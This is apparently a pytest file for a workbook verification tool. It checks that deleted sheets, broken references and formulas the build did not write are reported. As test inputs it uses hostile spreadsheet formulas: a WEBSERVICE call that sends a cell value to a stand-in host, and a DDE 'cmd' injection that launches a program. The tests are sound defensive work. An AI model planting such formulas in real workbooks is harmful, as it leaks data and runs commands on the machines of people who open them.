"""What cannot be carried, in the order to read it in: formulas that were added, then causes; what follows from these is counted."""

from __future__ import annotations

from typing import TYPE_CHECKING

import openpyxl
import pytest

from tests.roundtrip.edits import in_libreoffice, place
from tests.support import TINY, change_cells, command
from workbook import api
from workbook.roundtrip.pull import pull

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Build the small workbook once."""
    path = tmp_path_factory.mktemp("good") / "tiny.xlsx"
    api.build("tiny", path, templates=TINY)
    return path


def test_deleted_sheets_come_first_and_the_formulas_that_lost_them_are_counted(good: Path, tmp_path: Path) -> None:
    sheets = ["Inputs", "Small GPU"]
    in_libreoffice([(good, tmp_path / "b.xlsx", [["remove sheet", sheet] for sheet in sheets])])
    told = [str(item) for item in pull(tmp_path / "b.xlsx").left]
    assert told[: len(sheets)] == [f"sheet '{sheet}' is gone" for sheet in sorted(sheets)]
    counted = [text for text in told if "#REF!" in text]
    assert len(counted) == 1
    assert told[-1] == counted[0]
    assert " more formulas, on " in counted[0]
    assert counted[0].endswith("lost cells that were deleted (#REF!)")


FORMULAS = ('WEBSERVICE("http://a.example/"&B7)', "cmd|'/c calc'!A0")


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_added_formula_is_reported_as_a_formula_before_all_else(formula: str, good: Path, tmp_path: Path) -> None:
    sheet, address = place(api.load("tiny", TINY), "run.weights")
    opened = openpyxl.load_workbook(good)
    opened[sheet][f"T{address[1:]}"].value = f"={formula}"
    opened[sheet]["A3"].value = "another text"
    opened.create_sheet("AAA")
    opened.save(tmp_path / "b.xlsx")
    found = pull(tmp_path / "b.xlsx").left
    assert [str(item) for item in found] == [
        f"{sheet}!T{address[1:]} holds the formula ={formula}, which the build did not write",
        f"{sheet}!3:3 has other texts, or numbers that are neither inputs nor results, than the build wrote",
    ]
    verified = command("verify", tmp_path / "b.xlsx", "--saved", "--templates", TINY)
    assert str(found[0]) in verified.stdout


def test_a_formula_in_the_cell_of_a_note_is_reported_with_its_text(good: Path, tmp_path: Path) -> None:
    sheet, address = place(api.load("tiny", TINY), "run.weights")
    cell = f'<c r="L{address[1:]}" t="str"><f>WEBSERVICE(A1)</f><v>agreed</v></c>'
    change_cells(good, tmp_path / "b.xlsx", [(sheet, f"L{address[1:]}")], lambda _: cell)
    told = [str(item) for item in pull(tmp_path / "b.xlsx").remarks]
    assert [text.partition(" holds ")[2].partition(",")[0] for text in told] == ["the formula =WEBSERVICE(A1)"]


HELD = {
    ' t="e"><v>#N/A</v>': "holds the error #N/A, where",
    ' t="b"><v>1</v>': "holds TRUE, where",
    ' t="inlineStr"><is><t>1\u00a0500</t></is>': "holds '1[no-break space]500', where",
    f' t="inlineStr"><is><t>{"x" * 5_000}</t></is>': f"holds '{'x' * 80}...' (5,000 characters), where",
}


@pytest.mark.parametrize(("cell", "text"), HELD.items(), ids=range(len(HELD)))
def test_what_an_input_holds_is_shown_as_a_cell_shows_it(cell: str, text: str, good: Path, tmp_path: Path) -> None:
    sheet, address = place(api.load("tiny", TINY), "run.weights")
    change_cells(good, tmp_path / "b.xlsx", [(sheet, address)], lambda _: f'<c r="{address}"{cell}</c>')
    assert text in str(pull(tmp_path / "b.xlsx").left[0])
    refused = command("verify", tmp_path / "b.xlsx", "--saved", "--templates", TINY)
    assert text.removesuffix(", where") in refused.output
